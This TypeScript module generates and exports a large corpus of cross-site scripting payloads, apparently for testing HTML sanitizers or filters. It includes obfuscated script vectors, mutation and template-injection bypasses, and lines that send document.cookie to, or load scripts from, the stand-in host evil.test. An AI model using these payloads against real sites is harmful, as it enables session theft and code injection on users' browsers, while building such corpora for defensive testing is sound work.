const tags = [
  'script',
  'img src=x',
  'svg',
  'iframe',
  'body',
  'video src=x',
  'audio src=x',
  'object data=x',
  'embed src=x',
  'details open',
  'input autofocus',
  'marquee',
  'math',
  'form',
  'a href=#',
  'link rel=stylesheet href=x',
  'style',
  'template',
  'textarea autofocus',
  'select autofocus',
  'table',
  'button autofocus',
  'animate',
  'set',
  'xss',
  'image src=x',
  'video><source',
  'picture><img src=x',
  'svg><animate',
  'math><mtext><img src=x',
  'noscript><p title="</noscript><img src=x',
];
const events = `
  onload onerror onclick onfocus onblur ontoggle onmouseover onmouseenter onpointerenter onpointerover
  onanimationstart onanimationend ontransitionend onbegin onend onrepeat onwheel onscroll onresize
  onpageshow onhashchange onmessage onstart onfinish onloadstart oncanplay onloadeddata onplay
  ontimeupdate oninput onchange onsubmit oninvalid onsearch onkeydown oncopy onpaste onauxclick
  oncontextmenu onbeforetoggle oncontentvisibilityautostatechange ONERROR oNlOaD
`
  .trim()
  .split(/\s+/);
const gaps = [' ', '/', '\t', '\n', '\u000c', '/**/', '  ', ' x ', '\u00a0', ' / '];
const quotes = ['', '"', "'", '`'];
const closers = [
  '',
  '">',
  "'>",
  '</textarea>',
  '</title>',
  '</script>',
  '-->',
  ']]>',
  '</style>',
  '*/',
  '`>',
  '</noscript>',
  '{{',
  '\\">',
];
const codes = [
  'alert(1)',
  'alert`1`',
  '(alert)(1)',
  'top["al"+"ert"](1)',
  'window.alert?.(1)',
  '\\u0061lert(1)',
  '&#97;lert(1)',
  'eval(atob("YWxlcnQoMSk="))',
  "fetch('https://evil.test/steal?c='+document.cookie)",
  "new Image().src='https://evil.test/p.png'",
  "import('https://evil.test/x.js')",
  "location='https://evil.test/'",
];
const schemes = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  'java\nscript:',
  ' javascript:',
  '\u0001javascript:',
  'javascript&colon;',
  '&#106;avascript:',
  'javascript:/*--></title></style></textarea></script>*/',
  'javascript://%0a',
  'vbscript:',
  'data:text/html,',
];
const places = [
  (url: string) => `<a href="${url}">x</a>`,
  (url: string) => `[x](${url})`,
  (url: string) => `![x](${url})`,
  (url: string) => `<iframe src="${url}">`,
  (url: string) => `<form action="${url}"><button>x</button></form>`,
  (url: string) => `<svg><a xlink:href="${url}"><text>x</text></a></svg>`,
  (url: string) => `<object data="${url}">`,
  (url: string) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url: string) => `<base href="${url}">`,
  (url: string) => url,
];
const known = [
  '<script>alert(1)</script>',
  '<script src=https://evil.test/x.js></script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<style>@import"https://evil.test/x.css";</style>',
  '<img src="https://evil.test/p.png">',
  '![x](https://evil.test/p.png)',
  '<link rel=prefetch href=https://evil.test/>',
  '{{constructor.constructor("alert(1)")()}}',
  '\u0024{alert(1)}',
  '<%= alert(1) %>',
  '#{alert(1)}',
  '[[\u0024{alert(1)}]]',
  '<svg><script href="data:,alert(1)"/>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<input name=attributes><input name=body><img name=cookie id=alert>',
  '</script><script>alert(1)</script>',
  '\u2028alert(1)\u2028',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<]]>script>alert(1)<![CDATA[<]]>/script>',
];
const pick = <T>(list: readonly T[], at: number) => list[at % list.length] as T;

/** Six combinations per tag and event, in varying contexts. */
const attributes = tags.flatMap((tag, row) =>
  events.flatMap((event, column) =>
    Array.from({ length: 6 }, (_, turn) => {
      const at = row * 7 + column * 3 + turn;
      const quote = pick(quotes, at);
      const gap = pick(gaps, at + turn);
      return `${pick(closers, at * 5 + turn)}<${tag}${gap}${event}=${quote}${pick(codes, row + column + turn)}${quote}>`;
    }),
  ),
);
const addresses = schemes.flatMap((scheme, row) =>
  places.flatMap((place, column) => [
    place(`${scheme}${pick(codes, row + column)}`),
    place(`${scheme}alert(1)`),
  ]),
);

/** XSS payloads: known vectors, and generated ones. */
export const scripts: string[] = [...new Set([...known, ...attributes, ...addresses])];

export const scriptBatches = (size: number) =>
  Array.from({ length: Math.ceil(scripts.length / size) }, (_, at) =>
    scripts.slice(at * size, (at + 1) * size),
  );
